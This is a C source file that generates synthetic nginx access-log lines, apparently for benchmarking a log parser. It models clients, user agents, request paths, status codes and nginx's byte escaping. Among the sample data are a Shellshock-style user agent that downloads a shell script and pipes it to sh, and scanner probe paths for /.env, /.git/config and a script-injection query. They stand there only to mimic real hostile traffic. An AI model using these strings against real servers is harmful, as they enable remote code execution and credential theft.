#include "nginx_model.h"

#include <stdlib.h>
#include <string.h>

#define NX_CLIENTS 4096
#define NX_REMOTE_MAX 48

struct nx_client {
    char remote[NX_REMOTE_MAX];
    size_t remote_len;
    const char *agent; /* borrowed from the model's agent buffer */
    size_t agent_len;
    int is_bot;
};

/* Agents as the clients send them (raw bytes); they are escaped once at init.
 * Weights are per mille. The UTF-8 and quoted ones exist because real logs
 * contain them and they exercise the \xHH escapes a parser must pass through. */
static const struct {
    const char *text;
    unsigned weight;
    int is_bot;
} agent_table[] = {
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/67.0.3396.99 Safari/537.36", 250, 0},
    {"Mozilla/5.0 (Linux; Android 8.0.0; SM-G960F Build/R16NW) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/67.0.3396.87 Mobile Safari/537.36", 170, 0},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/11.0 Mobile/15E148 Safari/604.1", 150, 0},
    {"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:61.0) Gecko/20100101 Firefox/61.0", 80, 0},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/11.1.1 Safari/605.1.15", 70, 0},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/64.0.3282.140 Safari/537.36 Edge/17.17134", 40, 0},
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 60, 1},
    {"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 30, 1},
    {"curl/7.58.0", 25, 0},
    {"python-requests/2.19.1", 25, 0},
    {"-", 20, 0},
    {"Mozilla/5.0 (Linux; U; Android 4.4.2; zh-CN; \xE5\x8D\x8E\xE4\xB8\xBA G750-T01 "
     "Build/HuaweiG750-T01) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
     "Chrome/57.0.2987.108 UCBrowser/11.9.4.974 Mobile Safari/537.36", 40, 0},
    {"() { :;}; /bin/bash -c \"wget -qO- http://203.0.113.9/x.sh | sh\"", 20, 0},
    {"Mozilla/5.0 (compatible; \"Nimbostratus-Bot\"/v1.3.2; +http://cloudsystemnetworks.com)",
     20, 1},
};
#define NX_AGENTS (sizeof(agent_table) / sizeof(agent_table[0]))

static const char *const categories[] = {"shoes", "bags", "t-shirts", "jackets", "hats",
                                         "sale", "new-arrivals", "kids"};
static const char *const sorts[] = {"price", "new", "popular"};
static const char *const langs[] = {"en", "de", "fr", "ja"};
/* Search terms as browsers send them (percent-encoded) plus raw UTF-8 and
 * quotes as sloppy clients send them; nginx logs the raw bytes escaped. */
static const char *const terms[] = {
    "red+shoes", "rain%20jacket", "caf%C3%A9", "linen", "sneakers", "wool+hat", "caf\xC3\xA9",
    "\xE6\x9D\xB1\xE4\xBA\xAC", "\"summer sale\"", "size+42", "gift", "backpack"};
static const char *const scanner_paths[] = {
    "/wp-login.php", "/.env", "/phpmyadmin/index.php", "/.git/config",
    "/cgi-bin/test.cgi?x=\"><script>alert(1)</script>", "/admin/config.php"};
static const char *const users[] = {"alice", "bob", "admin"};
static const char *const v6_prefixes[] = {"2a02:c7f", "2001:db8", "2607:fb90", "2a01:cb00"};
static const char hexdig[] = "0123456789abcdef";

/* nginx's default log escaping (ngx_http_log_escape): '"', '\' and bytes
 * outside 0x20..0x7e become \xHH with upper-case hex. Returns bytes written;
 * dst must hold 4 * len. */
static size_t nx_escape(char *dst, const char *src, size_t len, int backslash_quotes)
{
    static const char up[] = "0123456789ABCDEF";
    size_t n = 0;
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)src[i];
        if (c == '"' && backslash_quotes) {
            dst[n++] = '\\';
            dst[n++] = '"';
        } else if (c == '"' || c == '\\' || c < 0x20 || c >= 0x7f) {
            dst[n++] = '\\';
            dst[n++] = 'x';
            dst[n++] = up[c >> 4];
            dst[n++] = up[c & 15];
        } else {
            dst[n++] = (char)c;
        }
    }
    return n;
}

static size_t put_str(char *dst, const char *s)
{
    size_t n = strlen(s);
    memcpy(dst, s, n);
    return n;
}

static size_t put_hex(char *dst, uint64_t v, unsigned digits)
{
    for (unsigned i = digits; i > 0; i--) {
        dst[i - 1] = hexdig[v & 15];
        v >>= 4;
    }
    return digits;
}

static size_t make_ipv4(struct bench_rng *r, char *dst, int bot)
{
    unsigned o[4];
    if (bot) {
        o[0] = 66;
        o[1] = 249;
        o[2] = 64 + bench_rng_below(r, 32);
    } else {
        /* Skip 0/8, 10/8, 127/8 and the multicast+ range: public-looking clients. */
        do {
            o[0] = 1 + bench_rng_below(r, 223);
        } while (o[0] == 10 || o[0] == 127);
        o[1] = bench_rng_below(r, 256);
        o[2] = bench_rng_below(r, 256);
    }
    o[3] = 1 + bench_rng_below(r, 254);
    size_t n = 0;
    for (int i = 0; i < 4; i++) {
        n += bench_fmt_u64(dst + n, o[i]);
        if (i < 3) {
            dst[n++] = '.';
        }
    }
    return n;
}

static size_t make_ipv6(struct bench_rng *r, char *dst)
{
    size_t n = put_str(dst, v6_prefixes[bench_rng_below(r, 4)]);
    /* A quarter use the compressed form, as SLAAC-less servers often do. */
    if (bench_rng_below(r, 4) == 0) {
        dst[n++] = ':';
        dst[n++] = ':';
        return n + put_hex(dst + n, 1 + bench_rng_below(r, 0xffff), 4);
    }
    for (int i = 0; i < 6; i++) {
        uint64_t g = bench_rng_below(r, 0x10000);
        dst[n++] = ':';
        /* Groups are written without leading zeros. */
        unsigned digits = g >= 0x1000 ? 4 : g >= 0x100 ? 3 : g >= 0x10 ? 2 : 1;
        n += put_hex(dst + n, g, digits);
    }
    return n;
}

static unsigned pick_agent(struct bench_rng *r)
{
    unsigned x = bench_rng_below(r, 1000);
    for (unsigned i = 0; i < NX_AGENTS; i++) {
        if (x < agent_table[i].weight) {
            return i;
        }
        x -= agent_table[i].weight;
    }
    return 0;
}

int nx_model_init(struct nx_model *m, uint64_t seed, int backslash_quotes)
{
    memset(m, 0, sizeof(*m));
    m->rng.state = seed;
    m->backslash_quotes = backslash_quotes;
    m->clients = calloc(NX_CLIENTS, sizeof(*m->clients));
    m->agent_buf = malloc(NX_AGENTS * 1024);
    if (m->clients == NULL || m->agent_buf == NULL) {
        return -1;
    }
    const char *agent_text[NX_AGENTS];
    size_t agent_len[NX_AGENTS];
    for (unsigned i = 0; i < NX_AGENTS; i++) {
        char *dst = m->agent_buf + i * 1024;
        agent_text[i] = dst;
        agent_len[i] = nx_escape(dst, agent_table[i].text, strlen(agent_table[i].text),
                                 backslash_quotes);
    }
    m->nclients = NX_CLIENTS;
    for (size_t i = 0; i < NX_CLIENTS; i++) {
        struct nx_client *c = &m->clients[i];
        unsigned a = pick_agent(&m->rng);
        c->agent = agent_text[a];
        c->agent_len = agent_len[a];
        c->is_bot = agent_table[a].is_bot;
        if (!agent_table[a].is_bot && bench_rng_below(&m->rng, 100) < 15) {
            c->remote_len = make_ipv6(&m->rng, c->remote);
        } else {
            c->remote_len = make_ipv4(&m->rng, c->remote, agent_table[a].is_bot);
        }
    }
    return 0;
}

void nx_model_cleanup(struct nx_model *m)
{
    free(m->clients);
    free(m->agent_buf);
    m->clients = NULL;
    m->agent_buf = NULL;
}

enum nx_kind { K_ROOT, K_ITEM, K_CATEGORY, K_SEARCH, K_JS, K_CSS, K_IMAGE, K_API, K_FAVICON,
               K_ROBOTS, K_SITEMAP, K_KINDS };
/* Per mille; static assets dominate as on a real shop front end. */
static const unsigned kind_weight[K_KINDS] = {80, 250, 100, 100, 120, 60, 150, 80, 30, 10, 20};

static enum nx_kind pick_kind(struct bench_rng *r)
{
    unsigned x = bench_rng_below(r, 1000);
    for (unsigned i = 0; i < K_KINDS; i++) {
        if (x < kind_weight[i]) {
            return (enum nx_kind)i;
        }
        x -= kind_weight[i];
    }
    return K_ITEM;
}

/* Writes the raw (unescaped) path of kind k; returns its length. */
static size_t make_path(struct bench_rng *r, enum nx_kind k, char *p)
{
    size_t n = 0;
    switch (k) {
    case K_ROOT:
        p[n++] = '/';
        break;
    case K_ITEM:
        n += put_str(p + n, "/item/");
        n += bench_fmt_u64(p + n, 1 + bench_rng_below(r, 50000));
        break;
    case K_CATEGORY:
        n += put_str(p + n, "/category/");
        n += put_str(p + n, categories[bench_rng_below(r, 8)]);
        n += put_str(p + n, "?page=");
        n += bench_fmt_u64(p + n, 1 + bench_rng_below(r, 20));
        n += put_str(p + n, "&sort=");
        n += put_str(p + n, sorts[bench_rng_below(r, 3)]);
        break;
    case K_SEARCH:
        n += put_str(p + n, "/search?q=");
        n += put_str(p + n, terms[bench_rng_below(r, sizeof(terms) / sizeof(terms[0]))]);
        n += put_str(p + n, "&lang=");
        n += put_str(p + n, langs[bench_rng_below(r, 4)]);
        break;
    case K_JS:
        n += put_str(p + n, "/static/js/app.");
        /* A few dozen builds' worth of content hashes; the multiplier only
         * makes the small index look like a hash. */
        n += put_hex(p + n, (bench_rng_below(r, 64) + 1) * 0x9e3779b1u, 8);
        n += put_str(p + n, ".js");
        break;
    case K_CSS:
        n += put_str(p + n, "/static/css/main.");
        n += put_hex(p + n, (bench_rng_below(r, 16) + 101) * 0x9e3779b1u, 8);
        n += put_str(p + n, ".css");
        break;
    case K_IMAGE:
        n += put_str(p + n, "/images/products/");
        n += bench_fmt_u64(p + n, 1 + bench_rng_below(r, 50000));
        n += put_str(p + n, bench_rng_below(r, 2) ? "_640x480.jpg" : "_200x200.jpg");
        break;
    case K_API:
        n += put_str(p + n, "/api/v1/cart?session=");
        n += put_hex(p + n, bench_rng_next(r), 16);
        break;
    case K_FAVICON:
        n += put_str(p + n, "/favicon.ico");
        break;
    case K_ROBOTS:
        n += put_str(p + n, "/robots.txt");
        break;
    default:
        n += put_str(p + n, "/sitemap.xml");
        break;
    }
    return n;
}

static uint32_t body_size_200(struct bench_rng *r, enum nx_kind k)
{
    static const uint32_t lo[K_KINDS] = {14000, 20000, 30000, 10000, 50000, 10000,
                                         5000, 50, 1150, 67, 1000};
    static const uint32_t span[K_KINDS] = {2000, 40000, 50000, 30000, 300000, 50000,
                                           245000, 2000, 1, 1, 4000};
    return lo[k] + bench_rng_below(r, span[k]);
}

static unsigned pick_status(struct bench_rng *r)
{
    unsigned x = bench_rng_below(r, 1000);
    if (x < 800) {
        return 200;
    }
    if (x < 880) {
        return 304;
    }
    if (x < 920) {
        return 301;
    }
    if (x < 980) {
        return 404;
    }
    if (x < 995) {
        return 500;
    }
    return 400;
}

/* Junk requests nginx answers with 400: a TLS ClientHello sent to the
 * plain-text port, or a connection closed before any request ("-"). */
static void make_junk_request(struct nx_model *m, struct nx_record *rec)
{
    static const char hello[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a\"\\";
    if (bench_rng_below(&m->rng, 4) == 0) {
        memcpy(rec->path, "-", 1);
        rec->method_len = 1;
    } else {
        rec->method_len = nx_escape(rec->path, hello, sizeof(hello) - 1, m->backslash_quotes);
    }
    rec->method = rec->path;
    rec->path_len = 0;
    rec->proto = NULL;
    rec->proto_len = 0;
    rec->body_bytes = rec->method_len == 1 ? 0 : 157;
}

static void make_referer(struct nx_model *m, struct nx_record *rec, int bot)
{
    unsigned x = bench_rng_below(&m->rng, 100);
    size_t n = 0;
    if (bot || x < 40) {
        rec->referer[n++] = '-';
    } else if (x < 85) {
        char raw[NX_PATH_MAX];
        n = put_str(rec->referer, "https://shop.example.com");
        size_t rn = make_path(&m->rng, bench_rng_below(&m->rng, 2) ? K_ITEM : K_CATEGORY, raw);
        n += nx_escape(rec->referer + n, raw, rn, m->backslash_quotes);
    } else if (x < 97) {
        n = put_str(rec->referer, "https://www.google.com/");
    } else {
        n = put_str(rec->referer, "https://www.bing.com/search?q=shop+example&form=QBLH");
    }
    rec->referer_len = n;
}

void nx_model_next(struct nx_model *m, struct nx_record *rec)
{
    struct bench_rng *r = &m->rng;
    /* min() of two draws: low-numbered clients are busier, so addresses
     * repeat with a skew as they do in real traffic. */
    uint32_t a = bench_rng_below(r, (uint32_t)m->nclients);
    uint32_t b = bench_rng_below(r, (uint32_t)m->nclients);
    const struct nx_client *c = &m->clients[a < b ? a : b];
    rec->remote = c->remote;
    rec->remote_len = c->remote_len;
    rec->agent = c->agent;
    rec->agent_len = c->agent_len;
    if (bench_rng_below(r, 100) < 2) {
        rec->user = users[bench_rng_below(r, 3)];
    } else {
        rec->user = "-";
    }
    rec->user_len = strlen(rec->user);
    make_referer(m, rec, c->is_bot);

    rec->status = pick_status(r);
    if (rec->status == 400) {
        make_junk_request(m, rec);
        return;
    }
    char raw[NX_PATH_MAX];
    size_t rn;
    enum nx_kind k = pick_kind(r);
    if (rec->status == 404 && bench_rng_below(r, 2) == 0) {
        rn = put_str(raw, scanner_paths[bench_rng_below(r, 6)]);
    } else if (rec->status == 301) {
        k = K_CATEGORY;
        rn = put_str(raw, "/category/");
        rn += put_str(raw + rn, categories[bench_rng_below(r, 8)]);
    } else {
        if (rec->status == 304 && bench_rng_below(r, 2) == 0) {
            k = bench_rng_below(r, 2) ? K_JS : K_IMAGE;
        }
        rn = make_path(r, k, raw);
    }
    rec->path_len = nx_escape(rec->path, raw, rn, m->backslash_quotes);

    unsigned x = bench_rng_below(r, 100);
    rec->method = "GET";
    if (k == K_API && x < 50) {
        rec->method = "POST";
    } else if (x < 2) {
        rec->method = "HEAD";
    }
    rec->method_len = strlen(rec->method);
    x = bench_rng_below(r, 100);
    rec->proto = x < 65 ? "HTTP/1.1" : x < 98 ? "HTTP/2.0" : "HTTP/1.0";
    rec->proto_len = 8;

    switch (rec->status) {
    case 200: rec->body_bytes = body_size_200(r, k); break;
    case 301: rec->body_bytes = 169; break;
    case 404: rec->body_bytes = 153; break;
    case 500: rec->body_bytes = 177; break;
    default: rec->body_bytes = 0; break;
    }
    if (rec->method[0] == 'H') {
        rec->body_bytes = 0;
    }
}

void nx_format_time_local(char *dst, int64_t t)
{
    static const char months[] = "JanFebMarAprMayJunJulAugSepOctNovDec";
    int y;
    unsigned mo, d;
    int64_t days = t / 86400;
    unsigned sod = (unsigned)(t - days * 86400);
    bench_civil_from_days(days, &y, &mo, &d);
    bench_fmt_pad(dst, d, 2);
    dst[2] = '/';
    memcpy(dst + 3, months + (mo - 1) * 3, 3);
    dst[6] = '/';
    bench_fmt_pad(dst + 7, (unsigned)y, 4);
    dst[11] = ':';
    bench_fmt_pad(dst + 12, sod / 3600, 2);
    dst[14] = ':';
    bench_fmt_pad(dst + 15, sod / 60 % 60, 2);
    dst[17] = ':';
    bench_fmt_pad(dst + 18, sod % 60, 2);
    memcpy(dst + 20, " +0000", 6);
}

size_t nx_format_line(const struct nx_record *r, const char *time_local, const char *mark,
                      size_t mark_len, char *dst)
{
    char *p = dst;
    memcpy(p, r->remote, r->remote_len);
    p += r->remote_len;
    memcpy(p, " - ", 3);
    p += 3;
    memcpy(p, r->user, r->user_len);
    p += r->user_len;
    memcpy(p, " [", 2);
    p += 2;
    memcpy(p, time_local, NX_TIME_LOCAL_LEN);
    p += NX_TIME_LOCAL_LEN;
    memcpy(p, "] \"", 3);
    p += 3;
    memcpy(p, r->method, r->method_len);
    p += r->method_len;
    if (r->proto != NULL) {
        *p++ = ' ';
        memcpy(p, r->path, r->path_len);
        p += r->path_len;
        if (mark_len > 0) {
            *p++ = memchr(r->path, '?', r->path_len) != NULL ? '&' : '?';
            memcpy(p, mark, mark_len);
            p += mark_len;
        }
        *p++ = ' ';
        memcpy(p, r->proto, r->proto_len);
        p += r->proto_len;
    }
    memcpy(p, "\" ", 2);
    p += 2;
    p += bench_fmt_u64(p, r->status);
    *p++ = ' ';
    p += bench_fmt_u64(p, r->body_bytes);
    memcpy(p, " \"", 2);
    p += 2;
    memcpy(p, r->referer, r->referer_len);
    p += r->referer_len;
    memcpy(p, "\" \"", 3);
    p += 3;
    memcpy(p, r->agent, r->agent_len);
    p += r->agent_len;
    *p++ = '"';
    *p++ = '\n';
    return (size_t)(p - dst);
}
